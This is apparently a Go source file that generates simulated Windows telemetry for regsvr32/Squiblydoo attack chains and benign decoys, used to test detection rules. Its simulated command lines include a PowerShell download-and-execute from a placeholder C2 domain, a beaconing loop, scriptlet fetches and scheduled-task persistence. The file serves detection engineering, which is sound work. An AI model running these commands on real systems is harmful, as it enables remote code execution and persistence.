package samples

import (
	"fmt"
	"time"
)

// Attack chains after Atomic Red Team T1218.010, and decoys. Each plants a
// small process tree with its loads and traffic on host h starting at t;
// role names prefix every event it writes (Truth.Roles).

const (
	c2Domain = "cdn-update.example.net"
	c2IP     = "198.51.100.23"
	c2IP2    = "203.0.113.77"
)

// userShell starts an interactive cmd.exe (with its conhost) for chains.
func userShell(h *host, t time.Time, role string, life time.Duration) *proc {
	cmd := h.spawn(h.explorer, t, imgCmd, `"C:\Windows\system32\cmd.exe" `, spawnOpt{acct: h.user, integrity: "Medium", cwd: h.userDir() + `\`, role: role, life: life})
	h.spawn(cmd, t.Add(40*time.Millisecond), imgConhost, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, spawnOpt{role: role, life: life - time.Second})
	return cmd
}

// regsvr32Loads queues the loads every regsvr32 makes of the DLL it
// registers (signed or not) after its own system DLLs.
func regsvr32Loads(h *host, p *proc, t time.Time, dll string, signed bool, signer, role string) {
	sys := `C:\Windows\System32\`
	if p.img == imgRegsvr32Wow {
		sys = `C:\Windows\SysWOW64\`
	}
	h.load(p, t.Add(5*time.Millisecond), sys+"ntdll.dll", true, "Microsoft Windows", role)
	h.load(p, t.Add(9*time.Millisecond), sys+"kernel32.dll", true, "Microsoft Windows", role)
	h.load(p, t.Add(60*time.Millisecond), dll, signed, signer, role)
}

// squiblydoo plants regsvr32 /s /n /u /i:URL scrobj.dll started by parent,
// with its script-runtime loads, DNS and download, and a child.
func squiblydoo(h *host, parent *proc, t time.Time, url, host, ip, role string, child func(r *proc, at time.Time)) *proc {
	r := h.spawn(parent, t, imgRegsvr32, fmt.Sprintf(`regsvr32.exe /s /n /u /i:%s scrobj.dll`, url), spawnOpt{role: role + "/regsvr32", life: 40 * time.Second})
	h.load(r, t.Add(20*time.Millisecond), imgScrobj, true, "Microsoft Windows", role+"/regsvr32")
	h.load(r, t.Add(900*time.Millisecond), `C:\Windows\System32\jscript.dll`, true, "Microsoft Windows", role+"/regsvr32")
	if host != "" {
		h.dns(r, t.Add(300*time.Millisecond), host, ip, role+"/regsvr32")
	}
	port := uint16(443)
	if len(url) > 5 && url[:5] == "http:" {
		port = 80
	}
	h.connect(r, t.Add(400*time.Millisecond), host, ip, port, role+"/regsvr32")
	if child != nil {
		child(r, t.Add(2*time.Second))
	}
	return r
}

// chainSquiblydooOffice: a macro document makes Word run Squiblydoo, whose
// scriptlet starts an encoded PowerShell that calls home.
func chainSquiblydooOffice(g *gen, h *host, t time.Time) {
	const role = "squiblydoo-office"
	doc := h.userDir() + `\Downloads\Invoice_88213.docm`
	word := h.spawn(h.explorer, t, imgWinword, fmt.Sprintf(`"%s" /n "%s" /o ""`, imgWinword, doc),
		spawnOpt{acct: h.user, integrity: "Medium", cwd: h.userDir() + `\Documents\`, role: role + "/word", life: 10 * time.Minute})
	h.load(word, t.Add(80*time.Millisecond), `C:\Program Files\Common Files\Microsoft Shared\Office16\mso.dll`, true, "Microsoft Corporation", role+"/word")
	squiblydoo(h, word, t.Add(9*time.Second), "https://"+c2Domain+"/s/inv.sct", c2Domain, c2IP, role, func(r *proc, at time.Time) {
		ps := h.spawn(r, at, imgPowerShell, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, spawnOpt{role: role + "/child", life: 30 * time.Second})
		h.dns(ps, at.Add(2*time.Second), c2Domain, c2IP, role+"/child")
		h.connect(ps, at.Add(2100*time.Millisecond), c2Domain, c2IP, 443, role+"/child")
	})
}

// chainSquiblydooScript: a JScript attachment runs Squiblydoo; the scriptlet
// runs a discovery command through cmd.
func chainSquiblydooScript(g *gen, h *host, t time.Time) {
	const role = "squiblydoo-script"
	ws := h.spawn(h.explorer, t, imgWscript, fmt.Sprintf(`"C:\Windows\System32\WScript.exe" "%s\Downloads\scan_0412.js" `, h.userDir()),
		spawnOpt{acct: h.user, integrity: "Medium", cwd: h.userDir() + `\Downloads\`, role: role + "/wscript", life: time.Minute})
	squiblydoo(h, ws, t.Add(3*time.Second), "http://"+c2IP2+"/p.sct", "", c2IP2, role, func(r *proc, at time.Time) {
		c := h.spawn(r, at, imgCmd, `"C:\Windows\System32\cmd.exe" /c whoami /all > %TEMP%\w.txt`, spawnOpt{role: role + "/child", life: 3 * time.Second})
		h.spawn(c, at.Add(30*time.Millisecond), imgConhost, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, spawnOpt{role: role + "/conhost", life: 2 * time.Second})
		h.spawn(c, at.Add(200*time.Millisecond), `C:\Windows\System32\whoami.exe`, "whoami  /all", spawnOpt{role: role + "/grandchild", life: time.Second})
	})
}

// chainLocalSct: Atomic test 1, a local scriptlet from the command line
// that starts calc.
func chainLocalSct(g *gen, h *host, t time.Time) {
	const role = "local-sct"
	cmd := userShell(h, t, role+"/shell", 5*time.Minute)
	sct := h.userDir() + `\AppData\Local\Temp\RegSvr32.sct`
	r := h.spawn(cmd, t.Add(20*time.Second), imgRegsvr32, fmt.Sprintf(`regsvr32.exe /s /u /i:%s scrobj.dll`, sct), spawnOpt{role: role + "/regsvr32", life: 20 * time.Second})
	h.load(r, t.Add(20*time.Second+20*time.Millisecond), imgScrobj, true, "Microsoft Windows", role+"/regsvr32")
	h.spawn(r, t.Add(21*time.Second), imgCalc, `"C:\Windows\System32\calc.exe" `, spawnOpt{role: role + "/child", life: 2 * time.Minute})
}

// dllRegister plants regsvr32 /s of a DLL with its unsigned load and a
// beacon; it returns the regsvr32.
func dllRegister(h *host, parent *proc, t time.Time, cmdline, dll, cwd, role string) *proc {
	r := h.spawn(parent, t, imgRegsvr32, cmdline, spawnOpt{role: role + "/regsvr32", cwd: cwd, life: 90 * time.Second})
	regsvr32Loads(h, r, t, dll, false, "", role+"/regsvr32")
	h.connect(r, t.Add(2*time.Second), "", c2IP2, 443, role+"/regsvr32")
	return r
}

// chainDLLTemp: Atomic test 3, regsvr32 /s of a DLL dropped in %TEMP%.
func chainDLLTemp(g *gen, h *host, t time.Time) {
	const role = "dll-temp"
	cmd := userShell(h, t, role+"/shell", 5*time.Minute)
	dll := h.userDir() + `\AppData\Local\Temp\AllTheThingsx64.dll`
	dllRegister(h, cmd, t.Add(15*time.Second), `regsvr32.exe /s `+dll, dll, "", role)
}

// chainDLLAppData: a script registers a DLL it dropped under AppData.
func chainDLLAppData(g *gen, h *host, t time.Time) {
	const role = "dll-appdata"
	ms := h.spawn(h.explorer, t, imgMshta, fmt.Sprintf(`"C:\Windows\System32\mshta.exe" "%s\Downloads\statement.hta" `, h.userDir()),
		spawnOpt{acct: h.user, integrity: "Medium", cwd: h.userDir() + `\Downloads\`, role: role + "/mshta", life: 2 * time.Minute})
	h.dns(ms, t.Add(time.Second), c2Domain, c2IP, role+"/mshta")
	h.connect(ms, t.Add(1100*time.Millisecond), c2Domain, c2IP, 443, role+"/mshta")
	dll := h.userDir() + `\AppData\Roaming\Microsoft\Crypto\wdsync.dll`
	r := dllRegister(h, ms, t.Add(6*time.Second), `"regsvr32.exe" /s "`+dll+`"`, dll, "", role)
	h.spawn(r, t.Add(9*time.Second), imgCmd, `cmd.exe /c schtasks /create /tn "OneDrive Sync" /tr "regsvr32 /s `+dll+`" /sc onlogon`, spawnOpt{role: role + "/child", life: 3 * time.Second})
}

// chainDLLProgramData: regsvr32 /s of a DLL in ProgramData, once with the
// short name (flagged) and once with the full System32 path in the command
// line (which the seed rule's path filter hides).
func chainDLLProgramData(g *gen, h *host, t time.Time) {
	const role = "dll-programdata"
	cmd := userShell(h, t, role+"/shell", 5*time.Minute)
	dll := `C:\ProgramData\Oracle\Java\jusched.dll`
	dllRegister(h, cmd, t.Add(10*time.Second), `regsvr32.exe /s `+dll, dll, "", role)
	dll2 := `C:\ProgramData\ssh\libssh2.dll`
	dllRegister(h, cmd, t.Add(70*time.Second), `"C:\Windows\System32\regsvr32.exe" /s `+dll2, dll2, "", role+"-fullpath")
}

// chainDLLSystem32Cwd: the same from an elevated prompt whose working
// directory is System32: Sysmon's CurrentDirectory hides it from the seed
// rule; Security 4688 has no CurrentDirectory, so there it is flagged.
func chainDLLSystem32Cwd(g *gen, h *host, t time.Time) {
	const role = "dll-system32-cwd"
	cmd := h.spawn(h.explorer, t, imgCmd, `"C:\Windows\system32\cmd.exe" `, spawnOpt{acct: h.user, integrity: "High", cwd: `C:\Windows\system32\`, role: role + "/shell", life: 5 * time.Minute})
	dll := `C:\Users\Public\Libraries\vmtools.dll`
	dllRegister(h, cmd, t.Add(12*time.Second), `regsvr32 /s `+dll, dll, `C:\Windows\system32\`, role)
}

// chainWow64: System32 regsvr32 hands a 32-bit DLL to SysWOW64 regsvr32.
func chainWow64(g *gen, h *host, t time.Time) {
	const role = "wow64"
	cmd := userShell(h, t, role+"/shell", 5*time.Minute)
	dll := h.userDir() + `\AppData\Local\Temp\x86stage.dll`
	r := h.spawn(cmd, t.Add(8*time.Second), imgRegsvr32, `regsvr32.exe /s `+dll, spawnOpt{role: role + "/regsvr32", life: 30 * time.Second})
	regsvr32Loads(h, r, t.Add(8*time.Second), `C:\Windows\System32\wow64.dll`, true, "Microsoft Windows", role+"/regsvr32")
	w := h.spawn(r, t.Add(8*time.Second+150*time.Millisecond), imgRegsvr32Wow, `C:\Windows\SysWOW64\regsvr32.exe /s `+dll, spawnOpt{role: role + "/regsvr32-wow64", life: 25 * time.Second})
	regsvr32Loads(h, w, t.Add(8*time.Second+150*time.Millisecond), dll, false, "", role+"/regsvr32-wow64")
	h.connect(w, t.Add(10*time.Second), "", c2IP2, 443, role+"/regsvr32-wow64")
}

// chainChildren: a Squiblydoo whose scriptlet spawns cmd, powershell,
// rundll32 and calc.
func chainChildren(g *gen, h *host, t time.Time) {
	const role = "children"
	cmd := userShell(h, t, role+"/shell", 10*time.Minute)
	squiblydoo(h, cmd, t.Add(5*time.Second), "https://"+c2Domain+"/k.sct", c2Domain, c2IP, role, func(r *proc, at time.Time) {
		c := h.spawn(r, at, imgCmd, `"C:\Windows\System32\cmd.exe" /c net user /domain`, spawnOpt{role: role + "/child", life: 3 * time.Second})
		h.spawn(c, at.Add(30*time.Millisecond), imgConhost, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, spawnOpt{role: role + "/conhost", life: 2 * time.Second})
		h.spawn(r, at.Add(4*time.Second), imgPowerShell, `powershell.exe -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('https://`+c2Domain+`/a.ps1')"`, spawnOpt{role: role + "/child", life: 10 * time.Second})
		h.spawn(r, at.Add(8*time.Second), imgRundll32, `rundll32.exe shell32.dll,Control_RunDLL`, spawnOpt{role: role + "/child", life: 5 * time.Second})
		h.spawn(r, at.Add(12*time.Second), imgCalc, `calc.exe`, spawnOpt{role: role + "/child", life: time.Minute})
	})
}

// chainUnsignedLoads: regsvr32 loading unsigned code from a user path
// (flagged), beside loads the unsigned-image analytic must not flag:
// unsigned under Program Files and C:\Windows\Temp, signed in %TEMP%, and
// an unsigned load by rundll32.
func chainUnsignedLoads(g *gen, h *host, t time.Time) {
	const role = "unsigned-load"
	cmd := userShell(h, t, role+"/shell", 10*time.Minute)
	temp := h.userDir() + `\AppData\Local\Temp\`
	r := h.spawn(cmd, t.Add(5*time.Second), imgRegsvr32, `regsvr32.exe /s `+temp+`plugin64.dll`, spawnOpt{role: role + "/regsvr32", life: 2 * time.Minute})
	regsvr32Loads(h, r, t.Add(5*time.Second), temp+"plugin64.dll", false, "", role+"/regsvr32")
	h.load(r, t.Add(6*time.Second), `C:\Program Files\Contoso\Suite\helper.dll`, false, "", role+"/decoy-programfiles")
	h.load(r, t.Add(7*time.Second), `C:\Windows\Temp\msvcp_win32.dll`, false, "", role+"/decoy-windows-temp")
	h.load(r, t.Add(8*time.Second), temp+"signedhelper.dll", true, "Contoso Software Ltd.", role+"/decoy-signed")
	rd := h.spawn(cmd, t.Add(30*time.Second), imgRundll32, `rundll32.exe `+temp+`plugin64.dll,DllRegisterServer`, spawnOpt{role: role + "/rundll32", life: 20 * time.Second})
	h.load(rd, t.Add(30*time.Second+60*time.Millisecond), temp+"plugin64.dll", false, "", role+"/rundll32")
}

// chainNetwork: regsvr32 fetching a scriptlet by name and by address.
func chainNetwork(g *gen, h *host, t time.Time) {
	const role = "network"
	cmd := userShell(h, t, role+"/shell", 10*time.Minute)
	r := squiblydoo(h, cmd, t.Add(4*time.Second), "https://"+c2Domain+"/update.sct", c2Domain, c2IP, role, nil)
	h.dns(r, t.Add(6*time.Second), "pastebin.example.com", "192.0.2.80", role+"/regsvr32")
	h.connect(r, t.Add(6100*time.Millisecond), "pastebin.example.com", "192.0.2.80", 443, role+"/regsvr32")
	squiblydoo(h, cmd, t.Add(60*time.Second), "http://"+c2IP2+"/x.sct", "", c2IP2, role+"-ip", func(r *proc, at time.Time) {
		ps := h.spawn(r, at, imgPowerShell, `powershell.exe -w hidden -c "while(1){iwr http://`+c2IP2+`/b -UseBasicParsing; sleep 60}"`, spawnOpt{role: role + "-ip/child", life: 3 * time.Minute})
		h.connect(ps, at.Add(time.Second), "", c2IP2, 80, role+"-ip/child")
	})
}

// chainRenamed: regsvr32 copied to ProgramData under another name.
func chainRenamed(g *gen, h *host, t time.Time) {
	const role = "renamed"
	cmd := userShell(h, t, role+"/shell", 5*time.Minute)
	h.spawn(cmd, t.Add(5*time.Second), imgCmd, `cmd.exe /c copy C:\Windows\System32\regsvr32.exe C:\ProgramData\jabber.exe`, spawnOpt{role: role + "/copy", life: time.Second})
	meta := metaFor(imgRegsvr32)
	j := h.spawn(cmd, t.Add(12*time.Second), `C:\ProgramData\jabber.exe`, `jabber.exe /s C:\ProgramData\jabber.dll`, spawnOpt{role: role + "/regsvr32", meta: &meta, cwd: `C:\ProgramData\`, life: time.Minute})
	h.load(j, t.Add(12*time.Second+60*time.Millisecond), `C:\ProgramData\jabber.dll`, false, "", role+"/regsvr32")
	h.connect(j, t.Add(14*time.Second), "", c2IP2, 443, role+"/regsvr32")
	h.spawn(j, t.Add(20*time.Second), imgCmd, `cmd.exe /c tasklist /v`, spawnOpt{role: role + "/child", life: 2 * time.Second})
}

// chainWerFault: regsvr32 crashing on a DLL and the error reporter starting
// (excluded by the spawning-children analytic, caught by the main one),
// and an installer's regsvr32 registering an event manifest with wevtutil.
func chainWerFault(g *gen, h *host, t time.Time) {
	const role = "werfault"
	cmd := userShell(h, t, role+"/shell", 10*time.Minute)
	dll := h.userDir() + `\Downloads\codecpack.dll`
	r := h.spawn(cmd, t.Add(5*time.Second), imgRegsvr32, `regsvr32.exe /s `+dll, spawnOpt{role: role + "/regsvr32", life: 10 * time.Second})
	regsvr32Loads(h, r, t.Add(5*time.Second), dll, false, "", role+"/regsvr32")
	h.spawn(r, t.Add(6*time.Second), imgWerFault, fmt.Sprintf(`C:\Windows\system32\WerFault.exe -u -p %d -s 412`, r.pid), spawnOpt{role: role + "/werfault", life: 3 * time.Second})
	w := h.spawn(cmd, t.Add(30*time.Second), imgRegsvr32Wow, `C:\Windows\SysWOW64\regsvr32.exe /s "C:\Program Files (x86)\Contoso\Legacy\legacy32.dll"`, spawnOpt{role: role + "/regsvr32-wow64", life: 5 * time.Second})
	h.spawn(w, t.Add(31*time.Second), imgWerFaultWow, fmt.Sprintf(`C:\Windows\SysWOW64\WerFault.exe -u -p %d -s 388`, w.pid), spawnOpt{role: role + "/werfault-wow64", life: 3 * time.Second})
	ms := h.spawn(h.services, t.Add(60*time.Second), imgMsiexec, `C:\Windows\system32\msiexec.exe /V`, spawnOpt{acct: h.systemAcct, integrity: "System", role: role + "/msiexec", life: 2 * time.Minute})
	ev := h.spawn(ms, t.Add(62*time.Second), imgRegsvr32, `regsvr32.exe /s "C:\Program Files\Contoso\Agent\EventProvider.dll"`, spawnOpt{role: role + "/regsvr32-installer", life: 5 * time.Second})
	h.spawn(ev, t.Add(63*time.Second), imgWevtutil, `wevtutil.exe im "C:\Program Files\Contoso\Agent\agent.man"`, spawnOpt{role: role + "/wevtutil", life: 2 * time.Second})
}

// chainPIDReuse: a regsvr32 starts a child and exits; notepad then gets the
// same process id and starts splwow64, which belongs to notepad.
func chainPIDReuse(g *gen, h *host, t time.Time) {
	const role = "pid-reuse"
	cmd := userShell(h, t, role+"/shell", 10*time.Minute)
	dll := h.userDir() + `\AppData\Local\Temp\stage2.dll`
	r := h.spawn(cmd, t.Add(5*time.Second), imgRegsvr32, `regsvr32.exe /s `+dll, spawnOpt{role: role + "/regsvr32", life: 4 * time.Second})
	regsvr32Loads(h, r, t.Add(5*time.Second), dll, false, "", role+"/regsvr32")
	h.spawn(r, t.Add(6*time.Second), imgCmd, `cmd.exe /c ping -n 1 `+c2IP2, spawnOpt{role: role + "/child", life: 2 * time.Second})
	n := h.spawn(h.explorer, t.Add(40*time.Second), imgNotepad, fmt.Sprintf(`"C:\Windows\system32\NOTEPAD.EXE" %s\Desktop\notes.txt`, h.userDir()),
		spawnOpt{acct: h.user, integrity: "Medium", cwd: h.userDir() + `\`, pid: r.pid, role: role + "/notepad", life: 5 * time.Minute})
	h.spawn(n, t.Add(70*time.Second), `C:\Windows\splwow64.exe`, `C:\Windows\splwow64.exe 12288`, spawnOpt{role: role + "/notepad-child", life: time.Minute})
}

// installer plants a software installer registering components with
// regsvr32 /s from Program Files (x86 uses SysWOW64 regsvr32), with the
// component load (signed, or unsigned under Program Files).
func installer(g *gen, h *host, t time.Time, role string, x86 bool) {
	sub := func(s string) string {
		if role == "" {
			return ""
		}
		return role + "/" + s
	}
	vendor := pick(g, []string{`Contoso\Suite`, `Fabrikam\Reader`, `Adatum\VPN Client`, `Tailspin\Scanner`})
	msi := h.spawn(h.services, t, imgMsiexec, `C:\Windows\system32\msiexec.exe /V`, spawnOpt{acct: h.systemAcct, integrity: "System", role: sub("msiexec"), life: 3 * time.Minute})
	inner := h.spawn(msi, t.Add(2*time.Second), imgMsiexec, fmt.Sprintf(`C:\Windows\syswow64\MsiExec.exe -Embedding %X E Global\MSI0000`, g.rng.Uint64()), spawnOpt{role: sub("msiexec"), life: 2 * time.Minute})
	img, dir := imgRegsvr32, `C:\Program Files\`+vendor+`\`
	if x86 {
		img, dir = imgRegsvr32Wow, `C:\Program Files (x86)\`+vendor+`\`
	}
	for i, name := range []string{"shellext.dll", "thumbnail.dll"} {
		at := t.Add(time.Duration(5+i*3) * time.Second)
		r := h.spawn(inner, at, img, fmt.Sprintf(`"%s" /s "%s%s"`, img, dir, name), spawnOpt{role: sub("regsvr32"), cwd: `C:\Windows\system32\`, life: 2 * time.Second})
		signed := g.rng.IntN(3) != 0
		signer := ""
		if signed {
			signer = "Contoso Software Ltd."
		}
		regsvr32Loads(h, r, at, dir+name, signed, signer, sub("regsvr32"))
	}
}

func chainInstaller(g *gen, h *host, t time.Time)    { installer(g, h, t, "installer", false) }
func chainInstallerX86(g *gen, h *host, t time.Time) { installer(g, h, t, "installer-x86", true) }
